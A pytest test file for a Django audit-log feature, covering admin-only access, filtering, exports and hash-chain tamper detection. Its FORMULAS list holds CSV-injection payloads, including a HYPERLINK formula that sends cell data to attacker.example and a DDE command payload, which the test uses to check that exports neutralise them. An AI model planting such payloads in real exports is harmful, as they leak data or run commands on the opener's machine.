import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.utils import timezone

from apps.audit.models import AuditEvent
from apps.audit.services import audit_record

pytestmark = pytest.mark.django_db


def _sql(query, params=()):
    with connection.cursor() as cur:
        cur.execute(query, params)


@pytest.fixture
def trail(owner, other_user):
    audit_record(
        action="workflow.create",
        actor=owner,
        resource_type="workflow",
        resource_id=7,
        details={"name": "w7"},
    )
    audit_record(
        action="workflow.delete", actor=other_user, resource_type="workflow", resource_id=8
    )
    audit_record(action="auth.login", status=AuditEvent.Status.FAILURE, actor_username="mallory")
    audit_record(
        action="connection.test",
        actor=owner,
        resource_type="connection",
        resource_id=3,
        status=AuditEvent.Status.FAILURE,
    )
    return list(AuditEvent.objects.order_by("seq"))


# --- access ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "url", ["/audit/", "/audit/1/", "/audit/export.csv", "/audit/export.json", "/audit/unmask/"]
)
def test_pages_are_admin_only(page, owner, admin_user, trail, url):
    anonymous = page(None).get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/accounts/login/")
    assert page(owner).get(url).status_code == 403
    assert page(admin_user).get(url).status_code == 200


@pytest.mark.parametrize("url", ["/api/audit", "/api/audit/verify", "/api/audit/1"])
def test_api_is_admin_only(api, owner, admin_user, trail, url):
    assert api(None).get(url).status_code == 401
    denied = api(owner).get(url)
    assert denied.status_code == 403 and denied.json()["success"] is False
    assert denied.json()["error"]["code"] == "FORBIDDEN"
    assert api(admin_user).get(url).status_code == 200


# --- list, filters, pagination --------------------------------------------------------------------
def _seqs(response):
    return [e["seq"] for e in response.json()["data"]["results"]]


def test_api_filters(api, admin_user, owner, trail):
    client = api(admin_user)
    assert _seqs(client.get("/api/audit", {"actor": owner.username})) == [4, 1]
    assert _seqs(client.get("/api/audit", {"actor": str(owner.pk)})) == [4, 1]
    assert _seqs(client.get("/api/audit", {"action": "workflow.delete"})) == [2]
    assert _seqs(client.get("/api/audit", {"action": "workflow."})) == [2, 1]
    assert _seqs(client.get("/api/audit", {"resource": "workflow:7"})) == [1]
    assert _seqs(client.get("/api/audit", {"resource": "connection"})) == [4]
    assert _seqs(client.get("/api/audit", {"status": "failure", "actor": "mallory"})) == [3]
    today = timezone.now().date()
    assert (
        len(
            _seqs(
                client.get(
                    "/api/audit", {"date_from": today.isoformat(), "date_to": today.isoformat()}
                )
            )
        )
        >= 4
    )
    assert (
        _seqs(client.get("/api/audit", {"date_to": (today - timedelta(days=1)).isoformat()})) == []
    )
    assert (
        _seqs(client.get("/api/audit", {"date_from": (today + timedelta(days=1)).isoformat()}))
        == []
    )


def test_api_bad_filters_are_400_in_envelope(api, admin_user, trail):
    for params in ({"status": "nope"}, {"date_from": "yesterday"}, {"page": "x"}):
        response = api(admin_user).get("/api/audit", params)
        body = response.json()
        assert response.status_code == 400 and body["success"] is False
        assert body["error"]["code"] == "VALIDATION_ERROR" and body["error"]["details"]


def test_api_pagination(api, admin_user, owner):
    for i in range(7):
        audit_record(action="test.page", actor=owner, details={"i": i})
    body = (
        api(admin_user).get("/api/audit", {"action": "test.page", "page_size": 3, "page": 2}).json()
    )
    assert body["success"] is True and body["data"]["count"] == 7 and body["data"]["num_pages"] == 3
    assert [e["details"]["i"] for e in body["data"]["results"]] == [3, 2, 1]
    beyond = (
        api(admin_user).get("/api/audit", {"action": "test.page", "page_size": 3, "page": 9}).json()
    )
    assert beyond["data"]["results"] == []


def test_page_lists_and_filters(page, admin_user, trail):
    response = page(admin_user).get("/audit/", {"action": "workflow.delete"})
    html = response.content.decode()
    assert (
        response.status_code == 200
        and 'href="/audit/2/"' in html
        and 'href="/audit/1/"' not in html
    )
    assert "1 event" in html
    paged = page(admin_user).get("/audit/")
    assert 'data-chain="ok"' in paged.content.decode()


def test_page_pagination(page, admin_user, owner):
    for i in range(60):
        audit_record(action="test.page", actor=owner, details={"i": i})
    first = page(admin_user).get("/audit/", {"action": "test.page"}).content.decode()
    second = page(admin_user).get("/audit/", {"action": "test.page", "page": 2}).content.decode()
    assert (
        "Page 1 of 2" in first and 'href="/audit/60/"' in first and 'href="/audit/10/"' not in first
    )
    assert "Page 2 of 2" in second and 'href="/audit/10/"' in second


def test_detail_page_shows_event(page, admin_user, trail):
    html = page(admin_user).get("/audit/1/").content.decode()
    assert "workflow.create" in html and trail[0].hash in html and "&quot;w7&quot;" in html
    assert page(admin_user).get("/audit/999/").status_code == 404


# --- exports --------------------------------------------------------------------------------------
def test_csv_export_streams_the_filtered_set(page, admin_user, owner, trail):
    response = page(admin_user).get("/audit/export.csv", {"actor": owner.username})
    assert response.status_code == 200 and response.streaming
    assert (
        response["Content-Type"].startswith("text/csv")
        and "attachment" in response["Content-Disposition"]
    )
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [int(r["seq"]) for r in rows] == [1, 4]
    assert json.loads(rows[0]["details"]) == {"name": "w7"} and rows[0]["hash"] == trail[0].hash


def test_json_export_streams_the_filtered_set_with_chain_status(page, admin_user, trail):
    response = page(admin_user).get("/audit/export.json", {"status": "failure"})
    assert response.status_code == 200 and response.streaming
    body = json.loads(b"".join(response.streaming_content))
    assert [e["seq"] for e in body["events"]] == [3, 4]
    assert body["chain"]["ok"] is True
    export = AuditEvent.objects.filter(action="audit.export").get()
    assert export.actor_username == admin_user.username
    assert export.details == {"format": "json", "filters": {"status": "failure"}, "events": 2}


# --- chain status on the page and the API ---------------------------------------------------------
TAMPERING = [
    (
        "update",
        lambda: _sql("UPDATE audit_events SET action = 'auth.logout' WHERE seq = 2"),
        2,
        "altered",
    ),
    ("delete", lambda: _sql("DELETE FROM audit_events WHERE seq = 3"), 3, "missing"),
    (
        "insert-out-of-order",
        lambda: _sql(
            "INSERT INTO audit_events (seq, timestamp, actor_id, actor_username, role, action, "
            "resource_type,"
            " resource_id, status, ip, user_agent, details, prev_hash, hash, key_id)"
            " SELECT 0, timestamp, NULL, 'mallory', '', 'forged', '', '', 'success', '', '', '{}', "
            "prev_hash, hash, key_id"
            " FROM audit_events WHERE seq = 1"
        ),
        1,
        "missing",
    ),
    ("reorder", lambda: _sql("UPDATE audit_events SET seq = 10 WHERE seq = 2"), 2, "missing"),
]


@pytest.mark.parametrize(
    "tamper, broken, word", [t[1:] for t in TAMPERING], ids=[t[0] for t in TAMPERING]
)
def test_tampering_shows_on_page_and_api(page, api, admin_user, trail, tamper, broken, word):
    ok_html = page(admin_user).get("/audit/").content.decode()
    assert "Chain OK" in ok_html
    tamper()
    html = page(admin_user).get("/audit/").content.decode()
    assert 'data-chain="broken"' in html and f"BROKEN at event #{broken}" in html and word in html
    detail = page(admin_user).get(f"/audit/{trail[-1].seq}/").content.decode()
    assert f"BROKEN at event #{broken}" in detail
    body = api(admin_user).get("/api/audit/verify").json()
    assert (
        body["success"] is True
        and body["data"]["ok"] is False
        and body["data"]["broken_seq"] == broken
    )


def test_verify_api_ok(api, admin_user, trail):
    body = api(admin_user).get("/api/audit/verify").json()
    # the admin's own requests are not recorded, so the count is the trail's
    assert body["data"] == {"ok": True, "checked": 4, "broken_seq": None, "reason": ""}


# --- the pages carry no inline script or style ----------------------------------------------------
@pytest.mark.parametrize("url", ["/audit/", "/audit/1/", "/audit/unmask/"])
def test_pages_have_no_inline_script_or_style(page, admin_user, trail, url):
    response = page(admin_user).get(url)
    html = response.content.decode()
    assert "<style" not in html and " style=" not in html and " on" + "click=" not in html
    import re

    for tag in re.findall(r"<script[^>]*>", html):
        assert "src=" in tag, tag
    assert "'unsafe-inline'" not in response["Content-Security-Policy"]


def test_resource_id_zero_is_kept(owner):
    assert (
        audit_record(
            action="test.zero", actor=owner, resource_type="thing", resource_id=0
        ).resource_id
        == "0"
    )
    assert audit_record(action="test.none", actor=owner, resource_type="thing").resource_id == ""


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("username", FORMULAS)
def test_csv_export_neutralises_formulas_planted_without_an_account(
    api, page, admin_user, username
):
    response = api(None).post(
        "/api/auth/login", {"username": username, "password": "wrong-pass-x"}, format="json"
    )
    assert response.status_code == 401
    stored = AuditEvent.objects.filter(action="auth.login").latest("seq").actor_username
    assert stored[:1] in ("=", "+", "-", "@", "\t", "\r")  # the login keeps what was typed
    export = page(admin_user).get("/audit/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + stored in cells  # still readable, as text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
